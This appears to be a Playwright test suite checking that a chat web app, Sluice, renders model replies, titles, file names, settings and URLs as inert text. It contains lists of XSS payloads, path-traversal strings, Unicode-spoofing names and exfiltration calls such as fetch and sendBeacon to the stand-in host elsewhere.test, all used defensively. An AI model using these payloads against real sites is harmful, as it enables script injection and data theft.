"""What others say is shown, and does nothing: models, upstreams, titles, files, addresses; what is too much
of anything leaves the page usable.

Each visitor's browser tells of all that goes wrong by itself, see Visitor: scripts that a policy stops,
requests to anybody else, errors. Here is what it cannot know: that nothing ran, and nothing was made of text.
"""

import json
from collections.abc import AsyncIterator, Sequence
from typing import TYPE_CHECKING

import pytest
import pytest_asyncio
from aiohttp import web
from long_tasks import longest_work
from pages import ChatPage
from playwright.async_api import Page, Route, expect
from scenes import talk

if TYPE_CHECKING:
    from conftest import Visit
    from scripted import Upstream

    from test.conftest import Server

MARKUP = (
    "<script>pwned = 1</script>",
    "<img src=x onerror='pwned = 1'>",
    "<IMG SRC=https://elsewhere.test/a.png>",
    "<svg onload='pwned = 1'><script>pwned = 1</script></svg>",
    "<svg><animate onbegin='pwned = 1' attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror='pwned = 1'></style></mtext></math>",
    "<math href='javascript:pwned = 1'>a</math>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<iframe src='javascript:parent.pwned = 1'></iframe>",
    "<object data='data:text/html,<script>pwned = 1</script>'></object>",
    "<embed src='https://elsewhere.test/'>",
    "<base href='https://elsewhere.test/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.test/'>",
    "<link rel=stylesheet href=https://elsewhere.test/a.css>",
    "<style>body { display: none } @import 'https://elsewhere.test/a.css';</style>",
    "<p style='position: fixed; inset: 0; background: red'>over all</p>",
    "<form action=https://elsewhere.test/><input autofocus onfocus='pwned = 1'><button>Go</button></form>",
    "<a id=body name=body href='javascript:pwned = 1'>a</a><img name=getElementById id=createElement>",
    "<details open ontoggle='pwned = 1'><summary>a</summary></details>",
    "<video><source onerror='pwned = 1'></video><audio src=x onerror='pwned = 1'></audio>",
    "<template><script>pwned = 1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<!--><img src=x onerror='pwned = 1'>--> <![CDATA[<script>pwned = 1</script>]]> <?php pwned = 1 ?>",
    "</div></article></main><script>pwned = 1</script>",
    "</textarea></title></style></script><script>pwned = 1</script>",
    "<scr<script>ipt>pwned = 1</scr</script>ipt>",
    "\\<script>pwned = 1\\</script> &lt;script&gt;pwned = 1&lt;/script&gt;",
)
LINKS = (
    "[a](javascript:pwned=1)",
    "[a](JaVaScRiPt:pwned=1)",
    "[a](java&#115;cript:pwned=1)",
    "[a](&#x6A;avascript&colon;pwned=1)",
    "[a](java\\script:pwned=1)",
    "[a](<java\tscript:pwned=1>)",
    "[a](<\x01javascript:pwned=1>)",
    "[a](%6Aavascript:pwned=1)",
    "[a](vbscript:pwned=1)",
    "[a](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "[a](blob:https://elsewhere.test/1)",
    "[a](file:///etc/passwd)",
    "[a](//elsewhere.test/a)",
    "[a](/api/v1/auth/logout)",
    "[a](https://elsewhere.test/\"onmouseover='pwned=1')",
    "[a](https://elsewhere.test/ \"x' onclick='pwned=1\")",
    "<javascript:pwned=1>",
    "<https://elsewhere.test/'onclick='pwned=1>",
    "![a](https://elsewhere.test/a.png)",
    "![a](javascript:pwned=1)",
    "![a](data:image/svg+xml,<svg/onload=pwned=1>)",
    "[a][b]\n\n[b]: javascript:pwned=1",
    "[![a](x onerror=pwned=1)](javascript:pwned=1)",
)
BLOCKS = (
    "```<img/src=x/onerror=pwned=1>\n</code></pre><script>pwned = 1</script>\n```",
    "```html\n<script>pwned = 1</script><img src=x onerror='pwned = 1'>\n```",
    "~~~\" onclick=\"pwned=1\n</code><img src=x onerror='pwned = 1'>\n~~~",
    "| <img src=x onerror='pwned = 1'> | [a](javascript:a) |\n| --- | --- |\n| `<b>` | <b onclick='a'>b |",
    "> <script>pwned = 1</script>\n> - <img src=x onerror='pwned = 1'>\n>   1. <svg onload='pwned = 1'>",
    "# <img src=x onerror='pwned = 1'>\n\n<script>\n\npwned = 1\n\n</script>",
    "`<script>pwned = 1</script>` **<img src=x onerror='pwned = 1'>** ~~<b id=message>~~",
)
DECEITFUL = "\u202egnp.exe\u202c \u2066\u2067\u2069 \u200b\ufeff e\u0301\u0300\u0301 " + "\u0317" * 500
"""Written backwards, invisible, or over what is beside it."""
ALL = "\n\n".join((*MARKUP, *LINKS, *BLOCKS, DECEITFUL))

NAUGHTY = "<img src=x onerror='pwned = 1'>\"'><svg onload=pwned=1>&lt;b&gt;"
"""Short enough for titles and names."""

# All that may come of Markdown. What the page itself draws has buttons, too, with icons in them.
MADE_OF_MARKDOWN = [
    *(
        "a",
        "br",
        "code",
        "em",
        "s",
        "span",
        "strong",
        "blockquote",
        "div",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
    ),
    *("hr", "li", "ol", "p", "pre", "ul", "table", "tbody", "td", "th", "thead", "tr"),
]
KEEP = """([place, kept]) => {
  for (const storage of [localStorage, sessionStorage]) storage.setItem(place, kept);
}"""
_LOOK = """(tags) => {
  const wrong = [];
  for (const element of document.querySelectorAll(".body *, .thoughts *, .bubble *")) {
    if (element.closest("button") && !element.closest("button").closest("a, td")) continue;
    if (!tags.includes(element.localName)) wrong.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const isKnown = ["class", "tabindex", "start", "title", "rel", "target", "href"].includes(name);
      if (!isKnown || (name === "href" && !/^(https?|mailto):/i.test(value))) wrong.push(element.outerHTML);
    }
  }
  return wrong;
}"""


async def is_harmless(page: Page) -> None:
    """Nothing has run, and nothing was made of what was said that might."""
    assert await page.evaluate("window.pwned") is None
    assert await page.evaluate(_LOOK, MADE_OF_MARKDOWN) == []
    assert await page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.url.startswith("http://127.0.0.1:")


def cut(text: str, *sizes: int) -> Sequence[str]:
    """In pieces of so many characters, one after the other and again: some part every tag and every fence."""
    pieces: list[str] = []
    at = 0
    while at < len(text):
        size = sizes[len(pieces) % len(sizes)]
        pieces.append(text[at : at + size])
        at += size
    return pieces


# ── what models and upstreams say ────────────────────────────────────────────────────────────────


async def test_nothing_that_a_model_says_or_thinks_does_anything(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    await chat.send("Attack me")
    await upstream.think(*cut(ALL, 1, 2, 3, 5))
    await upstream.say(*cut(ALL, 3, 1, 2))
    await expect(chat.text_of(1)).to_contain_text("gnp.exe")
    await is_harmless(page)
    await upstream.finish()
    await chat.ended()
    await expect(chat.text_of(1).locator(".growing")).to_have_count(0)
    await chat.thinking.locator("summary").click()
    await expect(chat.thinking).to_contain_text("gnp.exe")
    # What one might touch.
    for link in await chat.text_of(1).locator("a:not([href^=http], [href^=mailto])").all():
        await link.click(no_wait_after=True)
    await is_harmless(page)
    await page.reload()
    await expect(chat.text_of(1)).to_contain_text("gnp.exe")
    await is_harmless(page)


async def test_every_cut_of_a_fence_and_a_tag_is_the_same_text(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    text = "\n\n".join((*BLOCKS, *MARKUP[:6]))
    shown = []
    for sizes in ((1,), (2,), (3, 4), (7,), (len(text),)):
        await talk(chat, upstream, "Again", *cut(text, *sizes))
        await expect(chat.text_of(-1).locator(".growing")).to_have_count(0)
        shown.append(await chat.text_of(-1).inner_html())
    assert len(set(shown)) == 1
    await is_harmless(page)


async def test_what_a_person_says_is_shown_as_it_was_said(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    await talk(chat, upstream, ALL, "Well")
    bubble = chat.questions.locator(".bubble")
    assert await bubble.text_content() == ALL
    await page.reload()
    await expect(bubble).to_have_count(1)
    assert await bubble.text_content() == ALL
    await is_harmless(page)


async def test_what_an_upstream_says_of_its_troubles_is_text(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    await chat.send("Refuse")
    await (await upstream.asked()).refuse(400, NAUGHTY, code=NAUGHTY, type=NAUGHTY)
    await expect(chat.problems.locator("p")).to_have_text(
        f"The model's server refuses this request (status 400): {NAUGHTY}."
    )
    await chat.send("Fail")
    turn = await upstream.asked()
    await turn.say(NAUGHTY)
    await turn.fail(NAUGHTY)
    await expect(chat.problems.locator("p").last).to_have_text(f"The model's server failed: {NAUGHTY}.")
    await is_harmless(page)


# ── names ────────────────────────────────────────────────────────────────────────────────────────


async def test_a_title_is_text_wherever_it_is_shown(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    await talk(chat, upstream, NAUGHTY, "Well")
    await expect(chat.chats).to_have_count(1)
    title = "</title><script>pwned=1</script><b id=a>b"
    await page.get_by_role("button", name="More for").click()
    await page.get_by_role("menuitem", name="Rename").click()
    await page.get_by_label("New name").fill(title)
    await page.get_by_role("button", name="Save").click()
    await expect(chat.chats).to_have_text(title)
    await expect(page).to_have_title(f"{title} – Sluice")
    await chat.more(title, "Delete")
    await expect(page.get_by_role("dialog").get_by_role("heading")).to_have_text(f"Delete “{title}”?")
    await page.get_by_role("button", name="Cancel").click()
    await page.reload()
    await expect(chat.chats).to_have_text(title)
    async with page.expect_download() as downloading:
        await chat.more(title, "Export as Markdown")
    name = (await downloading.value).suggested_filename
    assert not set(name) & set('<>/\\"\u202e'), name
    await page.get_by_label("Search chats").fill("<b id=a>")
    await expect(chat.chats).to_have_count(1)
    await page.get_by_label("Search chats").fill("<script>alert(1)</script>%00\\")
    await expect(page.get_by_text("Nothing found.")).to_be_visible()
    await is_harmless(page)


async def test_a_file_may_be_called_anything(server: "Server", upstream: "Upstream", visit: "Visit") -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    name = "<img src=x onerror='pwned=1'>\u202etxt.exe.txt"
    contents = b"<script>pwned = 1</script>"
    await chat.attach({"name": name, "mimeType": "text/html", "buffer": contents})
    await expect(chat.files).not_to_contain_text("%")  # it is uploaded
    await chat.send("Look")
    await upstream.answer("Seen")
    await chat.ended()
    await page.reload()
    await expect(chat.questions.locator(".chip")).to_have_count(1)
    assert "<img src=x onerror=" in (await chat.questions.locator(".chip").text_content() or "")
    await is_harmless(page)


async def test_a_picture_that_is_a_document_does_not_run(server: "Server", visit: "Visit") -> None:
    page = (await visit(server)).page
    svg = b"<svg xmlns='http://www.w3.org/2000/svg' onload='pwned = 1'><script>pwned = 1</script></svg>"
    chat = ChatPage(page)
    await chat.attach({"name": "a.svg", "mimeType": "image/svg+xml", "buffer": svg})
    await expect(chat.files).to_have_count(1)
    await expect(chat.files).not_to_contain_text("%")
    await is_harmless(page)


async def test_settings_are_text(server: "Server", upstream: "Upstream", visit: "Visit") -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    await chat.button("Settings").click()
    await page.get_by_label("System prompt").fill(ALL)
    await page.get_by_role("button", name="Save").click()
    await chat.send("Hello")
    turn = await upstream.asked()
    assert turn.body["messages"][0] == {"role": "system", "content": ALL}
    await turn.answer("Well")
    await chat.ended()
    await chat.button("Settings").click()
    await expect(page.get_by_label("System prompt")).to_have_value(ALL)
    await is_harmless(page)


@pytest.mark.parametrize("place", ["settings", "models", "outbox.a", "identity", "tab"])
async def test_what_was_kept_may_be_anything(server: "Server", visit: "Visit", place: str) -> None:
    """A newer version of the page may have written it, or a person."""
    page = (await visit(server)).page
    chat = ChatPage(page)
    for kept in ("<script>", "null", "[]", "1", '"text"', '{"a": {}}', '[{"a": 1}]'):
        await expect(chat.message).to_be_visible()
        await page.evaluate(KEEP, [f"sluice.{place}", kept])
        await page.reload()
        await expect(chat.model).to_have_text("scripted")
        await chat.button("Settings").click()
        await expect(page.get_by_role("dialog", name="Settings")).to_be_visible()
    await is_harmless(page)


# ── addresses ────────────────────────────────────────────────────────────────────────────────────


ADDRESSES = (
    "/c/<script>pwned=1<",
    "/c/%3Cimg%20src=x%20onerror=pwned=1%3E",
    "/c/../c/conv_1",
    "/c/..%2f..%2fetc%2fpasswd",
    "/c/conv_1%00",
    "/c/javascript:pwned=1",
    "/c/conv_doesnotexist",
    "/?q=<script>pwned=1</script>#<img src=x onerror=pwned=1>",
    "/#javascript:pwned=1",
    "/c/" + "a" * 6000,
)


async def test_an_address_may_be_anything(server: "Server", visit: "Visit") -> None:
    visitor = await visit(server, None)
    visitor.may_complain.append("the server responded with a status of 404")
    for path in ADDRESSES:
        await visitor.open(path)
        await expect(ChatPage(visitor.page).message).to_be_visible()
        await is_harmless(visitor.page)


async def test_an_address_of_nothing_is_told_as_text(server: "Server", visit: "Visit") -> None:
    visitor = await visit(server, None)
    visitor.may_complain.append("the server responded with a status of 404")
    for path in (
        "/<script>pwned=1</script>",
        "/c/a/<img src=x onerror=pwned=1>",
        "/static/<svg onload=pwned=1>",
    ):
        await visitor.open(path)
        assert await visitor.page.evaluate("document.contentType") == "application/json"
        assert await visitor.page.evaluate("window.pwned") is None


# ── the walls behind ─────────────────────────────────────────────────────────────────────────────


SMUGGLED = (
    "<img src=/static/x onerror='pwned = 1'>",
    "<img src=https://elsewhere.test/a.png>",
    "<img src='data:image/svg+xml,<svg/>'>",
    "<iframe srcdoc='<script>parent.pwned = 1</script>'></iframe>",
    "<object data='data:text/html,<script>pwned = 1</script>'></object>",
    "<p style='position: fixed'>a</p>",
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://elsewhere.test/a.css>",
    "<video src=https://elsewhere.test/a.mp4></video>",
)


async def test_what_the_server_let_through_would_be_stopped(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    visitor = await visit(server)
    page, chat = visitor.page, ChatPage(visitor.page)
    visitor.may_complain += ["elsewhere.test", "Content Security Policy", "status of 404"]
    failed = reasons_of_failure(page)

    async def let_through(route: Route) -> None:
        texts = json.loads(route.request.post_data or "")["texts"]
        await route.fulfill(json={"html": [f"{text}<p>shown</p>" for text in texts]})

    await page.route("**/api/markdown", let_through)
    for number, html in enumerate(SMUGGLED, 1):
        visitor.complaints.clear()
        await chat.send("Let it through")
        await upstream.answer(html)
        await expect(chat.text_of(number).get_by_text("shown", exact=True)).to_be_attached()
        await visitor.complains("^content security policy: ")
        assert await page.evaluate("window.pwned") is None
        assert await page.evaluate("getComputedStyle(document.body).display") != "none"
    assert {*failed.values()} == {"csp"}


def reasons_of_failure(page: Page) -> dict[str, str | None]:
    """By the address of what could not be had."""
    reasons: dict[str, str | None] = {}
    page.on("requestfailed", lambda request: reasons.update({request.url: request.failure}))
    return reasons


MAKE = """const MAKE = (tag, properties) =>
  document.body.appendChild(Object.assign(document.createElement(tag), properties));"""
RUN = (
    # Programs, and what would become one.
    "MAKE('script', {text: 'pwned = 1'})",
    "MAKE('script', {src: 'https://elsewhere.test/a.js'})",
    "document.body.innerHTML = '<b>a</b>'",
    "eval('pwned = 1')",
    "Function('pwned = 1')()",
    "setTimeout('pwned = 1')",
    "new Worker('data:text/javascript,postMessage(1)')",
    "MAKE('a', {href: 'javascript:pwned=1'}).click()",
    "trustedTypes.createPolicy('mine', {createHTML: (html) => html})",
    "trustedTypes.createPolicy('sluice', {createHTML: (html) => html})",
    # Ways out.
    "fetch('https://elsewhere.test/?secret').catch(() => {})",
    "navigator.sendBeacon('https://elsewhere.test/', 'secret')",
    "new WebSocket('wss://elsewhere.test/')",
    "new Image().src = 'https://elsewhere.test/?secret'",
    "MAKE('base', {href: 'https://elsewhere.test/'})",
    "MAKE('form', {action: 'https://elsewhere.test/'}).submit()",
)


async def test_what_got_in_could_do_little(server: "Server", visit: "Visit") -> None:
    """As if a script of somebody's ran already. What is done from a timer is the page's doing, not the
    debugger's, to whom some rules do not apply."""
    visitor = await visit(server)
    page = visitor.page
    visitor.may_complain += ["elsewhere.test", "Content Security Policy", "Trusted", "^uncaught: EvalError"]
    failed = reasons_of_failure(page)
    await expect(ChatPage(page).message).to_be_visible()
    for script in RUN:
        visitor.complaints.clear()
        await page.evaluate(f"() => setTimeout(() => {{ {MAKE} {script} }})")
        await visitor.complains("^content security policy: ")
        assert await page.evaluate("window.pwned") is None, script
        assert page.url == server.http("/"), script
    assert {*failed.values()} <= {"csp"}


@pytest_asyncio.fixture(loop_scope="session")
async def stranger() -> AsyncIterator[str]:
    """Where a page of somebody else's is."""

    async def page(request: web.Request) -> web.Response:
        html = "<!doctype html><title>Elsewhere</title><link rel=icon href=data:,>"
        return web.Response(text=html, content_type="text/html")

    application = web.Application()
    application.router.add_get("/", page)
    runner = web.AppRunner(application)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}/"
    await runner.cleanup()


TRY = """async (server) => {
  const headers = { "Content-Type": "application/json" };
  const tried = async (work) => { try { return await work(); } catch (error) { return error.name; } };
  const get = (path, options) => tried(async () => (await fetch(server + path, options)).status);
  const socket = (path) => new Promise((resolve) => {
    const socket = new WebSocket(server.replace("http", "ws") + path);
    socket.onclose = ({ code }) => resolve(code);
    socket.onmessage = () => resolve("heard");
    socket.onopen = () => socket.send("hello");
  });
  const frame = document.body.appendChild(document.createElement("iframe"));
  await new Promise((resolve) => { frame.onload = resolve; frame.src = server + "/"; });
  const opened = window.open(server + "/");
  const seen = () => tried(() => opened.document.URL);
  // Until it is there it is an empty page of this one.
  while ((await seen()) === "about:blank") await new Promise((resolve) => setTimeout(resolve));
  return {
    page: await get("/"),
    chats: await get("/conversations", { credentials: "include" }),
    ask: await get("/v1/responses", { method: "POST", headers, body: "{}", credentials: "include" }),
    module: await tried(() => import(server + "/v1/models")),
    text: await socket("/ws"),
    responses: await socket("/v1/responses"),
    realtime: await socket("/v1/realtime"),
    frame: await tried(() => frame.contentWindow.document.title),
    opened: await tried(() => opened.document.title),
  };
}"""


async def test_a_page_of_somebody_else_can_neither_frame_nor_read_this_one(
    server: "Server", visit: "Visit", stranger: str
) -> None:
    visitor = await visit(server)
    visitor.may_complain += [stranger, "frame-ancestors", "CORS policy", "net::ERR_FAILED", "WebSocket"]
    await expect(ChatPage(visitor.page).message).to_be_visible()
    page = await visitor.context.new_page()
    await page.goto(stranger)
    assert await page.evaluate(TRY, server.http()) == {
        **dict.fromkeys(("page", "chats", "ask", "module"), "TypeError"),
        **dict.fromkeys(("text", "responses", "realtime"), 4403),
        **dict.fromkeys(("frame", "opened"), "SecurityError"),
    }
    await visitor.complains("frame-ancestors")


# ── too much of it ───────────────────────────────────────────────────────────────────────────────


LONGEST_MS = 1500.0
"""Of a processor's time. The browser lays out a paragraph, or a list, at a stretch, however long it is."""
MANY = {
    "words": (("word " * 8 + "\n\n") * 25_000, "a" * 200_000, "# a\n" * 10_000),
    "lines": (
        "a" + "\n" * 50_000 + "b",
        "\n" * 50_000 + "b",
        "- a\n" + "\n" * 50_000 + "- b",
        "a" + "\n " * 50_000 + "b",
    ),
    "marks": (
        "`" * 20_000 + "b",
        "` " * 20_000 + "b",
        "```\n" * 10_001 + "b",
        "**a" * 50_000 + "b",
        "[" * 50_000 + "b",
        "[a](" * 20_000 + "b",
        "&lt;" * 50_000 + "b",
    ),
    "blocks": (
        ">" * 20_000 + " b",
        "- " * 5_000 + "b",
        "".join("  " * depth + "- a\n" for depth in range(1000)) + "b",
        "- a\n" * 20_000 + "b",
        "| a | b |\n| --- | --- |\n" + "| 1 | b |\n" * 2_000,
        "```python\n" + "print('hello')\n" * 20_000 + "b",
        "```python\nprint(1)\n```\n\n" * 100 + "b",
    ),
    "characters": (
        "a" + "\u0301" * 20_000 + "b",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467 " * 10_000 + "b",
        "\u202e" * 20_000 + "b",
    ),
}


@pytest.mark.parametrize("texts", MANY.values(), ids=MANY)
async def test_an_answer_may_be_too_much_of_anything(
    server: "Server", upstream: "Upstream", visit: "Visit", texts: Sequence[str]
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    for text in texts:
        await chat.new_chat()
        async with longest_work(page) as coming:
            await chat.send("Too much")
            turn = await upstream.asked()
            for part in cut(text, 16_384):
                await turn.say(part)
            await turn.finish()
            await chat.ended()
            await expect(chat.text_of(1).locator(".growing")).to_have_count(0)
            await chat.message.fill("and now?")
        assert coming.ms < LONGEST_MS, text[:20]
    async with longest_work(page) as reading:
        await page.reload()
        await expect(chat.text_of(1).locator(".block").first).to_be_attached()
        await expect(chat.text_of(1).locator(".growing")).to_have_count(0)
    assert reading.ms < LONGEST_MS


# At once: to type it would take the browser itself too long.
PUT = """(area, text) => {
  area.value = text;
  area.dispatchEvent(new Event("input"));
}"""


async def test_a_long_message_is_sent_and_one_that_is_too_long_stays(
    server: "Server", upstream: "Upstream", visit: "Visit"
) -> None:
    page = (await visit(server)).page
    chat = ChatPage(page)
    text = "word " * 200_000
    async with longest_work(page) as sending:
        await chat.message.evaluate(PUT, text)
        await chat.button("Send").click()
        await (await upstream.asked()).answer("Much")
        await chat.ended()
    assert sending.ms < LONGEST_MS
    assert await chat.questions.locator(".bubble").text_content() == text.strip()
    await chat.message.evaluate(PUT, "word " * 220_000)  # more than the server reads
    await chat.button("Send").click()
    too_long = "The message is too long: shorten it, or attach it as a file."
    await expect(chat.problems.locator("p")).to_have_text(too_long)
    assert await chat.questions.count() == 1
